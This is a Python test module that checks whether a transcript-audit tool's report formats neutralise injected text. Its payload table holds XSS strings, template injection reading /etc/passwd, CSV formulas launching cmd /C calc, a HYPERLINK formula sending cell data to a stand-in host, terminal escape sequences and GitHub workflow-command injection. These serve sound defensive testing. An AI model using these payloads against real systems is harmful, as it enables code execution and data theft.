"""Words that must not come out of a report alive: one table, run against every format that there is.

ATTACKS are what a transcript may hold; `told` puts them everywhere in a report that words of a user can reach. PROOFS say for a
format how its output is read by those who read it, and what must not be found there; a format without one is still searched
for control characters and, being markup, for tags.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from html.parser import HTMLParser

import junitparser
import reports
from markdown_it import MarkdownIt

from empathy_audit.errors import Problem
from empathy_audit.model import Report, Reused, RoleInfo, Score, Suppressed, Suppression
from empathy_audit.reporters.safe import clean

CONTROLS = {  # words, and how `clean` leaves them
    "escape": ("\x1b[31mred\x1b[0m", "�[31mred�[0m"),
    "title": ("\x1b]0;pwned\x07", "�]0;pwned�"),
    "C1 sequence": ("a\x9b31mb", "a�31mb"),
    "line ends": ("a\r\nb\tc\x0bd\x0ce\x85f\u2028g\u2029h", "a  b c d e f g h"),
    "delete": ("a\x7fb\x08", "a�b�"),
    "NUL": ("a\x00b", "a�b"),
    "bidi override": ("\u202egpj.exe\u202c \u2066x\u2069 \u200fy\u061c", "gpj.exe x y"),
    "zero width": ("a\u200bb\ufeffc\u00add\u2060e", "abcde"),
    "tags": ("a\U000e0041\U000e007fb", "ab"),
    "surrogate": ("a\ud800b", "a�b"),
    "no-break space": ("a\u00a0b", "a b"),
    "rich markup": ("[bold red]a[/] [link=http://x]b[/link] :smile:", "[bold red]a[/] [link=http://x]b[/link] :smile:"),
    "inaudible": ("[INAUDIBLE] (laughs)", "[INAUDIBLE] (laughs)"),
    "other scripts": ("Ça va, 元気, שלום, नमस्ते, 👍", "Ça va, 元気, שלום, नमस्ते, 👍"),
}
WORDS = {
    "script": "<script>alert(1)</script>",
    "end of script": "</script><!--<script>alert(1)//",
    "image": "\"><img src=x onerror=alert(1)> '><svg/onload=alert(1)>",
    "end of details": "</summary></details></td></tr></table><h1>free</h1>",
    "entities": "&lt;script&gt; &#60;b&#62; &amp; &quot; &nosuch; &#8238;",
    "CDATA": "]]> <![CDATA[ <!-- --> <?xml ?> <!DOCTYPE x [<!ENTITY e 'boom'>]> &e; \ufffe\uffff",
    "templates": "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} #{7*7} %(name)s {0} %s",
    "formula": "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
    "formula, plus": "+1+cmd|' /C calc'!A0",
    "formula, minus": "-2+3+cmd|' /C calc'!A0",
    "formula, at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a blank": " \t =1+1",
    "formula, wide": "＝1+1",
    "formula after a quote": "\"=1+1",
    "new cells": 'a","=1+1",";=1+1;\t=1+1\n=1+1',
    "markdown": "**b** _i_ `c` ~~s~~ # h\n> q\n- l\n1. n\n```\nx\n``` | a | b |\n|---|---| \\",
    "markdown links": "[click](javascript:alert(1)) ![i](http://x.example/i.png) <http://x.example> [r]: http://x.example",
    "addresses": "http://x.example www.x.example someone@x.example",
    "mentions": "@octocat #1 GH-1 org/repo#1 @org/team",
    "workflow command": "::error file=x::boom\n::set-output name=a::b%0A::stop-commands::t\r::add-mask::x,y:z",
    "log group": "##[group]x\n##vso[task.setvariable variable=a]b",
    "fences": "``` `` ` $a$ $$b$$ |",
}  # fmt: skip
ATTACKS = {**{name: words for name, (words, _) in CONTROLS.items()}, **WORDS}
ENDLESS = {"words": "word " * 20_000, "a word": "x" * 100_000, "wide": "元" * 50_000, "marks": "*_`[<&@" * 15_000}

FORBIDDEN = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ud800-\udfff]")
MARKUP = {"html", "markdown", "junit"}  # formats in which a tag would be one
TAGS = re.compile(r"<(?:script>alert|img src=x|svg/onload|h1>free)")


def told(words: str, path: str = "") -> Report:
    """A report in which every place that words of a user can reach holds these."""
    talk = reports.transcript(f"customer: {words}", f"agent: {words}", path=path or words, id=words, warnings=(words,))
    talk = talk._replace(format=words, roles={"agent": RoleInfo((words,), "inferred", words)})
    said = talk.turns[0].text
    moment = reports.moment(talk, 0, said, reply=(1,), review=True, reason=words, why=words, next_step=words, name=words)
    second = moment._replace(review=False, status="partial")
    taken = reports.deduction(talk, 1, said, message=words, suggest=words, note=words, name=words)
    aside = Suppressed(1, 2, "EMP519", "antipattern", "policy_wall", words, "major", (0, len(said)), said, Suppression("EMP519", words, 1, 2))
    idle = Suppression(words, words, 1, 2, words)
    return reports.report(
        talk, moments=(moment, second), best=second, deductions=(taken,), verdict="fail", verdict_reason=words,
        score=Score(1.0, 1.0, 1.0, 1.0), measures={"sentiment": None, "note": words}, suppressed=(aside,),
        unused_suppressions=(idle,), problems=(Problem(words, words, words),), reused=(Reused(1, 2, (0, len(said)), said, 3, 7),),
    )  # fmt: skip


def prove(format: str, found: str, words: str, count: int) -> None:
    """Asserts that `words`, told `count` times, did nothing to `found`."""
    searched = found
    if format in ("json", "jsonl", "sarif", "gitlab"):
        searched = re.sub("[\u200b-\u200d\u2060-\u2065]", "", found)  # invisible, and the reader's to keep
    assert not FORBIDDEN.search(searched)
    if format in MARKUP:
        assert not TAGS.search(found)
    if format in PROOFS:
        PROOFS[format](found, words, count)


def _jsonl(found: str, words: str, count: int) -> None:
    assert len(found.splitlines()) == count
    assert json.loads(found.splitlines()[0])["moments"][0]["quote"] == words


def _csv(found: str, words: str, count: int) -> None:
    rows = list(csv.reader(io.StringIO(found)))
    assert len(rows) == len(found.splitlines()) and {len(row) for row in rows} == {len(rows[0])}
    assert [row[0] for row in rows] == ["kind", *["conversation", "moment", "moment", "antipattern", "suppressed"] * count, "not audited"]
    for cell in {cell for row in rows for cell in row}:
        assert not cell.strip(" \"").startswith(("=", "+", "-", "@", "＝", "|", "%", "\t")), cell
    assert any(cell.lstrip("'") == clean(words).lstrip("'") for row in rows for cell in row)


def _junit(found: str, _: str, count: int) -> None:
    suites = list(junitparser.JUnitXml.fromstring(found.encode()))
    assert len(suites) == count + 1
    for suite in suites[:count]:
        assert [type(case.result[0]).__name__ for case in suite] == ["Failure"] * 4 + ["Skipped"]


def _github(found: str, _: str, count: int) -> None:
    lines = found.split("\n")[:-1]
    assert len(lines) == 3 * count + 2  # two moments and an anti-pattern each, a problem, the summary
    for line in lines:
        command, data = re.fullmatch(r"::(?:error|warning|notice) ((?:\w+=[^,:]*,?)+)::(.*)", line).groups()  # type: ignore[union-attr]
        assert {part.partition("=")[0] for part in command.split(",")} <= {"file", "line", "endLine", "col", "endColumn", "title"}
        assert not re.search("%(?!25|0A|0D)", data) and not re.search("%(?!25|0A|0D|3A|2C)", command)


def _markdown(found: str, _: str, count: int) -> None:
    page = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(found)
    tags = Tags()
    tags.feed(page)
    allowed = {"h2", "h3", "p", "ul", "li", "table", "thead", "tbody", "tr", "th", "td", "strong", "br", "sub", "details", "summary"}
    assert tags.seen <= allowed, tags.seen - allowed
    assert page.count("<details>") == page.count("</details>") == count
    rows = [table.count("<tr>") for table in page.split("<table>")[1:]]
    assert rows == [3, count + 1] and page.count("<h2>") == 1  # by type of moment, and conversations
    text = re.sub(r"`[^`]*`", "", tags.text)
    assert not re.search(r"[@#]\w|://|(?i:\bwww\.|\bgh-\d)", text)


class Tags(HTMLParser):
    """Which tags a page has, and its text."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: set[str] = set()
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.add(tag if not set(dict(attrs)) - {"style"} else f"{tag} {attrs}")

    def handle_data(self, data: str) -> None:
        self.text += data


PROOFS: dict[str, Callable[[str, str, int], None]] = {
    "json": lambda found, _, count: json.loads(found)["transcripts"][count - 1],
    "jsonl": _jsonl,
    "csv": _csv,
    "junit": _junit,
    "github": _github,
    "markdown": _markdown,
    "gitlab": lambda found, _, count: json.loads(found)[count * 3 - 1],
    "sarif": lambda found, _, count: json.loads(found)["runs"][0]["results"][count * 4 - 1],
}
